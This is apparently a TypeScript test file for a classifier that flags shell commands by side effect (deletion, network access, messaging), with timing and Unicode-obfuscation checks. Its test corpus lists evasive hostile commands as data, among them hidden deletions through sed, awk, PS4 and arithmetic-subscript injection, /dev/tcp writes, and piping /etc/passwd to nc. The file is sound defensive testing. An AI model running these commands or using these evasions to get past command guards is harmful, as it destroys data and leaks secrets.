import { describe, expect, it } from 'vitest';
import { effectsOf, effectsOfArgv } from '../../../src/gateway/effects/effects-of.ts';

/** None of these is ever run. Beside the corpora: what was thought of while the classifier was written. */
const asked = [
  "zsh -c 'print -r -- *(e:x:)'",
  "fish -c 'ls'",
  'cat notes.md > $constructor',
  'cd /dev; echo a > $PWD/tcp/203.0.113.7/80',
  'echo $(( rm notes.md ))',
  'X=/dev/tcp/1.2.3.4/80; cat notes > $X',
  'tar czf x.tar.gz *',
  'tar cf a.tar "$(cat o)"',
  'export TAR_OPTIONS=--remove-files; tar cf x.tar a',
  'TAR_OPTIONS=--remove-files tar cf x.tar a',
  "git config alias.x '!rm a' && git x",
  "echo 'rm a' > x.sh; sh x.sh",
  'cp /bin/rm ls2 && ./ls2 notes.md',
  'ln -s /bin/rm q; ./q n',
  `printf 'import os\\nos.remove("a")' > a.py && python3 a.py`,
  "sed 's/a/b/;e rm x' f",
  "sed -e 1q -e 'e rm' f",
  "awk -f <(echo 'BEGIN{system(1)}') f",
  `awk 'BEGIN{printf "rm x" | "sh"}'`,
  `python3 -c "from os import remove as r; r('a')"`,
  `node -e "const fs=require('fs');fs['unlink'+'Sync']('x')"`,
  `node -e "require('ht'+'tp').get('http://x')"`,
  'perl -e \'my $x="rm a"; print `$x`\'',
  'while read -r u; do curl "$u"; done < urls.txt',
  'git rebase -i HEAD~2',
  'xargs -a f rm',
  'ffmpeg -i in.mp4 http://x/y',
  'read -r x < file; $x',
  'set -o allexport; TAR_OPTIONS=--remove-files; tar cf a b',
  'sqlite3 a.db < q.sql',
  'rm() { :; }; rm x',
  'command -- rm x',
  'env -- rm x',
  'env -iS "rm x"',
  'nice -n5 -- rm x',
  'timeout --signal=KILL 5 rm x',
  'timeout -k1 5 rm x',
  'xargs -I % sh -c "rm %" < list',
  'xargs --replace rm < list',
  'find . -regex ".*" -delete',
  'find . \\( -name a -o -name b \\) -delete',
  'python3 -Ic "import os;os.unlink(1)"',
  'python3 -uc "import os;os.unlink(1)"',
  'perl -we "unlink 1"',
  'ruby -rfileutils -e "FileUtils.rm_rf(1)"',
  'bash -xec "rm x"',
  'bash +x -c "rm x"',
  'bash -o pipefail -c "rm x"',
  'bash --norc --noprofile -c "rm x"',
  'sh -s < x.sh',
  'busybox ash -c "rm x"',
  'busybox xargs rm < l',
  'exec -- rm x',
  'time -- rm x',
  'git --no-pager rm x',
  'git -C sub clean -fd',
  'git stash -p',
  'make -f - < x',
  'echo a | tee >(sh)',
  'cat x | bash -s',
  'cat x | python3 -',
  'cat x | node',
  'cat x | perl',
  'cat < /dev/tcp/a/1',
  'exec 5<>/dev//tcp/a/1',
  'rsync -avz --del a/ b/',
  'rsync -ave ssh a/ b/',
  'zip -rm a.zip a',
  'zip --mo a.zip a',
  'tar --remove-f -cf a.tar a',
  'tar cf a.tar --use-compress-prog=x a',
  'sort --compress-prog=x a',
  '/usr/bin/env rm x',
  '/usr//bin/./rm x',
  '../../bin/rm x',
  'x=rm; "$x" y',
  'function f { rm x; }; f',
  'if :; then { ( rm x ) ; }; fi',
  '[[ a -eq a[$(rm x)] ]]',
  "[[ 'a[$(rm x)]' -eq 1 ]]",
  "x='a[$(rm x)]'; echo $((x))",
  "unset 'a[$(rm x)]'",
  "PS4='$(rm x)'; set -x; ls",
  'exec 3< <(rm x)',
  'cat /etc/passwd | nc a 1',
  'python3 -m pip download x',
  'pip3 install x',
  'uv pip install x',
  'npm i x',
  'npm exec x',
  'yarn add x',
  'pnpm add x',
  'openssl s_client a:1',
  'awk \'BEGIN { "/inet/tcp/0/a/80" |& getline }\'',
  'jq . a | sh',
  'vim -c q a',
  'printf %s x | mail a@b',
];
const unasked = [
  'date > "$HOME/now.txt"',
  'out=report.txt; date > "$out"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text of the shell
  'for f in *.txt; do tr a b < "$f" > "${f%.txt}.up"; done',
  'for f in *.png; do convert "$f" -resize 50% "small/$f"; done',
  "find . -name '*.md' -exec sh -c 'echo \"$1\"' _ {} \\;",
  'find . -type f -exec wc -l {} +',
  'find . -name "$x" -print',
  "awk '/a|b/ {print}' f",
  `awk '$1 == "a" || $2 ~ /x|y/ { n++ } END { print n/2 }' f`,
  `python3 -c "import json; print(json.dumps({'a': 1}))"`,
  `python3 -c "import re; print(re.compile('a').findall('aaa'))"`,
  `python3 -c "import os; [os.rename(f, f.lower()) for f in os.listdir('.')]"`,
  `python3 -c "open('x','w').write('hi')"`,
  'node -e "[1,2].map(x=>x*2).forEach(x=>console.log(x))"',
  `node -p "require('./package.json').version"`,
  'echo {a,b}',
  'ls -la && echo done || true',
  'bash -c \'for f in *.md; do wc -w "$f"; done\'',
  'git commit -F msg.txt',
  'git add -A && git commit -m "$(date +%F)"',
  'make CC=gcc -j4',
  'rsync -a src/ dst/',
  'echo a | xargs -I{} cp {} b/',
  '[[ -f a && $x -eq 3 ]] && echo y',
  'x=$((x+1)); echo $x',
  'command -v jq',
  'type -a python3',
  'pip list | grep numpy',
  'echo "❤️ done" > a.txt',
  'printf "%s\\n" "Ünïcode" >> a.txt',
  "ls 'foo bar'",
  'mv a.txt b.txt # rm x',
  '[ "$(ls -A dir)" ] && echo full',
  'diff <(sort a) <(sort b)',
  "trap 'echo bye' EXIT; sleep 1",
  'set -euo pipefail; ls',
  'set -e; npm test',
  '. venv/bin/activate && pytest',
  'source .env',
  'time make',
  "sqlite3 a.db <<'E'\nselect 1;\nE",
  'unzip -p a.zip f | head',
  '7z x a.7z',
  "printf -v x '%s' a",
  'cat > a.md <<E\nIt costs $5 - rm is a word\nE',
  'wc -l < a.txt',
  'ls | sort | uniq -c | sort -rn | head -3 > top.txt',
  "sed -i.bak -e 's/a/b/' -e '/x/d' f",
  "sed -n '/a/,/b/{p;q}' f",
  "sed ':a;N;$!ba;s/\\n/ /g' f",
];

const kinds: ReadonlySet<string> = new Set(['file-delete', 'network-request', 'message-send']);
const asks = (command: string): boolean => effectsOf(command).categories.some((each) => kinds.has(each));
const noteKinds = (command: string) => new Set(effectsOf(command).notes.map(({ kind }) => kind));

describe('what a command does', () => {
  it('is seen where a reader could see it', () => {
    expect(asked.filter((command) => !asks(command))).toEqual([]);
  });

  it.each(['ls | xargs cat', 'xargs -a list cat', 'sort --files0-from=list', 'wc --files0-from list'])(
    'is not known to read only, where nobody has read the names: %s',
    (command) => {
      expect(effectsOf(command)).toMatchObject({ categories: [], readsOnly: false });
    },
  );

  it('is not more than it says', () => {
    expect(unasked.filter(asks)).toEqual([]);
  });

  it('is one program with its words only when no shell is needed', () => {
    expect(effectsOf(`git add 'a b.md' "c"`).argv).toEqual(['git', 'add', 'a b.md', 'c']);
    const shells = [
      'ls ~',
      'ls *.md',
      'ls $x',
      'ls; ls',
      'ls > f',
      'A=b ls',
      'ls &',
      '! ls',
      'cd x',
      'eval ls',
      'ls {a,b}',
      '(ls)',
    ];
    expect(shells.filter((command) => effectsOf(command).argv !== null)).toEqual([]);
  });

  it('is the same for a list of arguments as for the text of it', () => {
    expect(effectsOfArgv(['rm', '-rf', 'x']).categories).toEqual(['file-delete']);
    expect(effectsOfArgv(['ls', '-la']).readsOnly).toBe(true);
    expect(effectsOfArgv(['echo', '$(rm x)', ';', 'rm']).categories).toEqual([]);
    expect(effectsOfArgv([]).certain).toBe(false);
    expect(effectsOfArgv(['l\u0455']).certain).toBe(false);
  });

  it('is told with the place it stands at', () => {
    const { notes } = effectsOf('ls && curl https://a.example > out');
    expect(notes).toContainEqual({ kind: 'download', text: 'curl', at: 6 });
    expect(notes).toContainEqual({ kind: 'redirect-write', text: 'out', at: 31 });
    expect([...noteKinds('sudo rm x')]).toEqual(expect.arrayContaining(['privilege', 'delete']));
    expect([...noteKinds('xargs frobnicate')]).toEqual(expect.arrayContaining(['wrapper', 'unknown-program']));
  });

  it('is not known past the depth that is followed (THREATS 95 CVE-2026-27183)', () => {
    const deep = (levels: number) => `${'env nice '.repeat(levels)}ls`;
    expect(effectsOf(deep(2)).readsOnly).toBe(true);
    expect(effectsOf(deep(50)).certain).toBe(false);
    expect(effectsOf(`${'echo "$('.repeat(30)}ls${')"'.repeat(30)}`).categories).toContain('file-delete');
  });

  it('is anything where the text is not what it looks like (THREATS 92)', () => {
    const hidden = [
      '\u200b',
      '\u202e',
      '\u00a0',
      '\u2028',
      '\u0000',
      '\u001b',
      '\r',
      '\u3164',
      '\u115f',
      '\uffa0',
      '\ufe0f',
      '\u{e0100}',
      '\ue000',
      '\ud800',
    ];
    expect(hidden.filter((sign) => effectsOf(`ls a${sign}b`).certain)).toEqual([]);
    expect(effectsOf('cat Übung.md').readsOnly).toBe(true);
  });

  it.each([
    ['reads', 'git log -3', true],
    ['reads', 'git branch -a', true],
    ['writes', 'git branch x', false],
    ['asks a glob', 'cat *.md', true],
    ['asks a variable', 'cat $x', false],
    ['runs a reader', 'timeout 5 ls', true],
  ])('on the host: %s: %s', (_what, command, readsOnly) => {
    expect(effectsOf(command).readsOnly).toBe(readsOnly);
  });
});

/** Texts that make a careless reader slow. */
const slow: Readonly<Record<string, string>> = {
  words: 'a '.repeat(8000),
  substitutions: '$('.repeat(8000),
  quoted: '"$(echo '.repeat(2000),
  print: `awk '${'print '.repeat(2600)}'`,
  underscores: `python3 -c "${'_'.repeat(16000)}"`,
  brackets: `sed '${'['.repeat(16000)}'`,
  calls: `python3 -c '${')['.repeat(8000)}'`,
  wrappers: 'nice '.repeat(3000),
  globs: `ls ${'*'.repeat(16000)}`,
  lines: `awk '${'\n'.repeat(16000)}'`,
  braces: '{a,'.repeat(5000),
  pipes: `${'ls|'.repeat(5000)}ls`,
  shells: 'bash -c '.repeat(2000),
  find: `find ${'-exec nice '.repeat(1500)}`,
  functions: 'f(){ '.repeat(3000),
  arithmetic: '$(('.repeat(4000),
};

describe('nesting', () => {
  it.each(['f(){ ', '(', '{ ', 'if ', 'coproc ', 'case x in (', '[[ ( ', '((('])(
    'of %s without an end is anything',
    (sign) => {
      const { certain } = effectsOf(sign.repeat(Math.floor(60_000 / sign.length)));
      expect(certain).toBe(false);
    },
  );
});

describe('the time it takes', () => {
  it.each(Object.entries(slow))('is short for 16 KB of %s', (_name, text) => {
    effectsOf(text);
    const took = Math.min(
      ...[1, 2, 3].map(() => {
        const started = performance.now();
        effectsOf(text);
        return performance.now() - started;
      }),
    );
    expect(took).toBeLessThan(250);
  });
});
